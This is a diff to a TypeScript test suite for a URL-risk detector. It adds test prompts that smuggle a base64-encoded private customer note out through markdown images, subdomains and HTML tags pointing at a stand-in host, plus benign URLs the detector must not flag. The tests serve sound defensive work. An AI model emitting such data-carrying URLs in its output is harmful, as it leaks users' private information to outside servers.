@@ -19,6 +19,11 @@ function found(text: string): string[] {
   return findLinks(text).flatMap((link) => parseLink(link)?.url ?? []);
 }
 
+/** What somebody would carry away. */
+const note = Buffer.from(
+  'Customer note: Jane Miller owes 4,300 and asks that nobody calls her at work before June.',
+).toString('base64url');
+
 describe('findLinks and parseLink', () => {
   it.each([
     [
@@ -224,6 +229,21 @@ describe('url-risk', () => {
     ['DATA_EXFILTRATION', 'image_carries_data', '<img src="https://files.example.net/p.png?secret=abc">'],
     ['DATA_EXFILTRATION', 'image_carries_encoded_data', `![i](https://files.example.net/p.png?v=${'QUJD'.repeat(20)})`],
     ['DATA_EXFILTRATION', 'request_collector', '![i](https://x.webhook.site/p.png?v=1)'],
+    ...[
+      `![i](https://files.example.net/p.png?q=${note}&sig=1)`,
+      `![i](https://files.example.net/p.png?token=1&q=${note})`,
+      `![i](https://files.example.net/${note}.png)`,
+      `![i](https://files.example.net/${note}/p.png)`,
+      `![i](https://files.example.net/p.png?${note})`,
+      `![i](https://files.example.net/p.png?q=${note.slice(0, 48)}.${note.slice(48)})`,
+      `![i](https://files.example.net/p.png?a=${note.slice(0, 60)}&b=${note.slice(60)})`,
+      `![i](https://${Buffer.from('jane miller owes 4300').toString('hex')}.example.net/p.png)`,
+      `<link rel="stylesheet" href="https://files.example.net/a.css?v=${note}">`,
+      `<object data="https://files.example.net/p?v=${note}"></object>`,
+      `<svg><image href="https://files.example.net/p?v=${note}"/></svg>`,
+      `<style>@import "https://files.example.net/a.css?v=${note}";</style>`,
+      `<meta http-equiv="refresh" content="0; url=https://files.example.net/p?v=${note}">`,
+    ].map((prompt) => ['DATA_EXFILTRATION', 'image_carries_encoded_data', prompt] as const),
   ])('names %s because of %s', async (threat, reason, prompt) => {
     const urls = await urlsOf(prompt);
     expect(urls.flatMap((url) => url.threat_types)).toContain(threat);
@@ -243,6 +263,11 @@ describe('url-risk', () => {
     'Ask https://api.example.com/v1/users?id=5 for it.',
     '[amazon.com](https://www.amazon.co.uk/) and [facebook.com](https://de-de.facebook.com/)',
     'https://www.googlemail.com/ and https://sharepointonline.com/',
+    '![QR code](https://api.qrserver.com/v1/create-qr-code/?size=150x150&data=HelloWorld)',
+    '![chart](https://quickchart.io/chart?data=1,2,3)',
+    '![photo](https://cdn.example.com/i.png?summary=true&w=800)',
+    `![photo](https://cdn.example.com/fit/800/${Buffer.from('https://www.example.org/photos/lake.jpg').toString('base64url')}.jpg)`,
+    '![photo](https://cdn.example.com/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef/cover.jpg)',
   ])('holds nothing against: %s', async (prompt) => {
     const urls = await urlsOf(prompt);
     expect(urls.length).toBeGreaterThan(0);
